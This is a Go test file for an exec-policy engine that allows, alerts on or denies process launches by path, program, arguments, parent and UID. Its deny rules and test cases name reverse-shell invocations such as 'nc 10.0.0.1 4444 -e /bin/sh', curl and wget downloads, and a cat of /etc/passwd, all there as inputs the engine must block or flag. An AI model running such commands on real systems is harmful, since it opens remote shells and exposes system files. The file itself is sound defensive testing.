package rules

import (
	"fmt"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

// judgePolicy is the exec section the truth table judges by.
const judgePolicy = header + `exec:
  default: alert
  deny:
    - name: no-curl
      path: ["/usr/bin/curl", "/tmp/**"]
    - name: no-nc-shell
      program: [nc, ncat]
      args: ["-e*"]
    - name: no-root-wget
      program: [wget]
      uid: ["0", "1-999"]
    - program: [sh]
      parent: [nginx, "/usr/sbin/*"]
  allow:
    - name: app
      path: ["/app/**"]
    - program: [ls, "cat"]
    - name: sh-from-node
      program: [sh]
      parent: [node]
      uid: ["1000"]
`

func TestExecJudge(t *testing.T) {
	p, err := Parse("policy.yaml", []byte(judgePolicy))
	if err != nil {
		t.Fatal(err)
	}
	j, err := p.Exec.Compile()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name        string
		give        ExecCall
		wantVerdict Verdict
		wantRule    string
	}{
		{name: "denied path", give: ExecCall{Path: "/usr/bin/curl", Argv: []string{"curl", "x"}, UID: 1000}, wantVerdict: VerdictDeny, wantRule: "no-curl"},
		{name: "denied tree", give: ExecCall{Path: "/tmp/a/b/x", Argv: []string{"x"}, UID: 1000}, wantVerdict: VerdictDeny, wantRule: "no-curl"},
		{name: "deny before allow", give: ExecCall{Path: "/tmp/ls", Argv: []string{"ls"}, UID: 1000}, wantVerdict: VerdictDeny, wantRule: "no-curl"},
		{name: "nc -e", give: ExecCall{Path: "/usr/bin/nc", Argv: []string{"nc", "10.0.0.1", "4444", "-e", "/bin/sh"}}, wantVerdict: VerdictDeny, wantRule: "no-nc-shell"},
		{name: "nc -e/bin/sh in one", give: ExecCall{Path: "/usr/bin/ncat", Argv: []string{"ncat", "-e/bin/sh", "h"}}, wantVerdict: VerdictDeny, wantRule: "no-nc-shell"},
		{name: "nc without -e", give: ExecCall{Path: "/usr/bin/nc", Argv: []string{"nc", "-l", "80"}}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
		{name: "argv0 -e is no argument", give: ExecCall{Path: "/usr/bin/nc", Argv: []string{"-e"}}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
		{name: "busybox applet", give: ExecCall{Path: "/bin/busybox", Argv: []string{"nc", "-e", "sh"}}, wantVerdict: VerdictDeny, wantRule: "no-nc-shell"},
		{name: "renamed through argv0", give: ExecCall{Path: "/usr/bin/nc", Argv: []string{"innocent", "-e", "sh"}}, wantVerdict: VerdictDeny, wantRule: "no-nc-shell"},
		{name: "uid in range", give: ExecCall{Path: "/usr/bin/wget", Argv: []string{"wget"}, UID: 999}, wantVerdict: VerdictDeny, wantRule: "no-root-wget"},
		{name: "uid 0", give: ExecCall{Path: "/usr/bin/wget", Argv: []string{"wget"}, UID: 0}, wantVerdict: VerdictDeny, wantRule: "no-root-wget"},
		{name: "uid above range", give: ExecCall{Path: "/usr/bin/wget", Argv: []string{"wget"}, UID: 1000}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
		{name: "parent by exe base", give: ExecCall{Path: "/bin/sh", Argv: []string{"sh"}, ParentExe: "/usr/local/nginx/nginx", ParentArgv0: "worker"}, wantVerdict: VerdictDeny, wantRule: "exec.deny.3"},
		{name: "parent by argv0", give: ExecCall{Path: "/bin/sh", Argv: []string{"sh"}, ParentExe: "/opt/x", ParentArgv0: "nginx"}, wantVerdict: VerdictDeny, wantRule: "exec.deny.3"},
		{name: "parent by exe path", give: ExecCall{Path: "/bin/sh", Argv: []string{"sh"}, ParentExe: "/usr/sbin/sshd", ParentArgv0: "sshd"}, wantVerdict: VerdictDeny, wantRule: "exec.deny.3"},
		{name: "other parent", give: ExecCall{Path: "/bin/sh", Argv: []string{"sh"}, ParentExe: "/usr/bin/node", ParentArgv0: "node", UID: 1000}, wantVerdict: VerdictAllow, wantRule: "sh-from-node"},
		{name: "allow needs every condition", give: ExecCall{Path: "/bin/sh", Argv: []string{"sh"}, ParentExe: "/usr/bin/node", UID: 1001}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
		{name: "allowed tree", give: ExecCall{Path: "/app/bin/server", Argv: []string{"server"}}, wantVerdict: VerdictAllow, wantRule: "app"},
		{name: "unnamed allow", give: ExecCall{Path: "/bin/cat", Argv: []string{"cat", "/etc/passwd"}}, wantVerdict: VerdictAllow, wantRule: "exec.allow.1"},
		{name: "program by path base", give: ExecCall{Path: "/bin/ls", Argv: []string{"whatever"}}, wantVerdict: VerdictAllow, wantRule: "exec.allow.1"},
		{name: "default", give: ExecCall{Path: "/usr/bin/python3", Argv: []string{"python3"}}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
		{name: "no argv", give: ExecCall{Path: "/usr/bin/python3"}, wantVerdict: VerdictAlert, wantRule: ExecDefaultRule},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v, rule := j.Judge(&tt.give)
			if v != tt.wantVerdict || rule != tt.wantRule {
				t.Errorf("Judge = %s, %s; want %s, %s", v, rule, tt.wantVerdict, tt.wantRule)
			}
			lazy, calls := lazyCaller(&tt.give)
			if v, rule := j.Judge(lazy); v != tt.wantVerdict || rule != tt.wantRule || *calls > 1 {
				t.Errorf("Judge with the caller read on demand = %s, %s (read %d times); want %s, %s (at most once)", v, rule, *calls, tt.wantVerdict, tt.wantRule)
			}
		})
	}
}

func TestExecJudgeNil(t *testing.T) {
	var s *ExecSection
	j, err := s.Compile()
	if err != nil {
		t.Fatal(err)
	}
	for _, j := range []*ExecJudge{j, nil} {
		if v, rule := j.Judge(&ExecCall{Path: "/tmp/x"}); v != VerdictAllow || rule != ExecDefaultRule {
			t.Errorf("Judge = %s, %s; want allow, %s", v, rule, ExecDefaultRule)
		}
	}
}

func TestExecCompileInvalid(t *testing.T) {
	s := &ExecSection{Default: "block", Deny: []ExecRule{{Path: []string{"/a/**b"}}, {}}}
	_, err := s.Compile()
	want := `compiling the exec section: policy: unknown default "block": want allow, alert or deny
policy: invalid glob "/a/**b": ** must be a whole path segment
policy: a rule without a condition: want path, program, args, parent or uid`
	if err == nil || err.Error() != want {
		t.Errorf("Compile: %v\nwant: %s", err, want)
	}
}

func TestExecEffective(t *testing.T) {
	tests := []struct {
		name         string
		give         *ExecSection
		giveBaseline bool
		wantDrift    Drift
		wantDefault  Verdict
	}{
		{name: "no section, no baseline", wantDrift: DriftOff, wantDefault: VerdictAllow},
		{name: "no section, baseline", giveBaseline: true, wantDrift: DriftAlert, wantDefault: VerdictAllow},
		{name: "unset, baseline", give: &ExecSection{}, giveBaseline: true, wantDrift: DriftAlert, wantDefault: VerdictAllow},
		{name: "set", give: &ExecSection{Drift: DriftDeny, Default: VerdictDeny}, wantDrift: DriftDeny, wantDefault: VerdictDeny},
		{name: "off with a baseline", give: &ExecSection{Drift: DriftOff}, giveBaseline: true, wantDrift: DriftOff, wantDefault: VerdictAllow},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.give.EffectiveDrift(tt.giveBaseline); got != tt.wantDrift {
				t.Errorf("EffectiveDrift = %s, want %s", got, tt.wantDrift)
			}
			if got := tt.give.EffectiveDefault(); got != tt.wantDefault {
				t.Errorf("EffectiveDefault = %s, want %s", got, tt.wantDefault)
			}
		})
	}
}

func TestExecPathOnly(t *testing.T) {
	tests := []struct {
		name string
		give ExecRule
		want bool
	}{
		{name: "literal paths", give: ExecRule{Name: "x", Path: []string{"/usr/bin/curl", "/usr/bin/wget"}}, want: true},
		{name: "a glob", give: ExecRule{Path: []string{"/usr/bin/curl", "/tmp/**"}}},
		{name: "an escape", give: ExecRule{Path: []string{`/a\b`}}},
		{name: "path and uid", give: ExecRule{Path: []string{"/usr/bin/curl"}, UID: []string{"0"}}},
		{name: "no path", give: ExecRule{Program: []string{"curl"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.give.PathOnly(); got != tt.want {
				t.Errorf("PathOnly = %v, want %v", got, tt.want)
			}
		})
	}
}

// benchSection is 50 rules of every kind; the call matches none of them.
func benchSection() *ExecSection {
	s := &ExecSection{Default: VerdictAlert}
	for i := 0; i < 25; i++ {
		s.Deny = append(s.Deny,
			ExecRule{Path: []string{fmt.Sprintf("/opt/tool%d/**", i), fmt.Sprintf("/usr/bin/t%d", i)}},
			ExecRule{Program: []string{fmt.Sprintf("prog%d*", i)}, Args: []string{"-e*"}, Parent: []string{"nginx", "/usr/sbin/*"}, UID: []string{"0-999"}})
	}
	s.Allow = []ExecRule{{Name: "app", Path: []string{"/app/**"}}}
	return s
}

func BenchmarkExecJudge(b *testing.B) {
	j, err := benchSection().Compile()
	if err != nil {
		b.Fatal(err)
	}
	c := &ExecCall{Path: "/usr/local/bin/python3.12", Argv: []string{"python3", "-c", "print(1)"}, ParentExe: "/usr/bin/node", ParentArgv0: "node", UID: 100}
	b.ReportAllocs()
	for b.Loop() {
		if v, _ := j.Judge(c); v != VerdictAlert {
			b.Fatal(v)
		}
	}
}

// TestExecJudgeAllocs: judging allocates nothing, whichever rule decides.
func TestExecJudgeAllocs(t *testing.T) {
	j, err := benchSection().Compile()
	if err != nil {
		t.Fatal(err)
	}
	calls := []ExecCall{
		{Path: "/usr/local/bin/python3.12", Argv: []string{"python3", "-c", "print(1)"}, ParentExe: "/usr/bin/node", UID: 100},
		{Path: "/opt/tool24/a/b", Argv: []string{"b"}},
		{Path: "/bin/prog7x", Argv: []string{"prog7x", "-e/bin/sh"}, ParentExe: "/usr/sbin/sshd", UID: 0},
		{Path: "/app/server", Argv: nil},
	}
	for _, c := range calls {
		if n := testing.AllocsPerRun(100, func() { j.Judge(&c) }); n != 0 {
			t.Errorf("Judge(%s %s) allocates %v times", c.Path, strings.Join(c.Argv, " "), n)
		}
	}
}

// TestExecExample: the example policy's exec section decodes field by field.
func TestExecExample(t *testing.T) {
	p, err := Load(filepath.Join("testdata", "example.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	got := *p.Exec
	got.pos = positions{}
	for _, rs := range [][]ExecRule{got.Deny, got.Allow} {
		for i := range rs {
			rs[i].pos = positions{}
		}
	}
	want := ExecSection{
		Drift:   DriftDeny,
		Default: VerdictAlert,
		Deny: []ExecRule{
			{Name: "no-download", Path: []string{"/usr/bin/curl", "/usr/bin/wget"}},
			{Path: []string{"/tmp/**", "/dev/shm/**"}},
			{Name: "no-reverse-shell", Program: []string{"nc", "ncat"}, Args: []string{"-e*"}, Parent: []string{"nginx", "/usr/sbin/*"}, UID: []string{"0", "1-999"}},
		},
		Allow: []ExecRule{{Program: []string{"sh"}, Parent: []string{"node"}}},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Exec = %+v\nwant %+v", got, want)
	}
	for i, want := range []bool{true, false, false} {
		if got := got.Deny[i].PathOnly(); got != want {
			t.Errorf("deny[%d].PathOnly = %v, want %v", i, got, want)
		}
	}
}
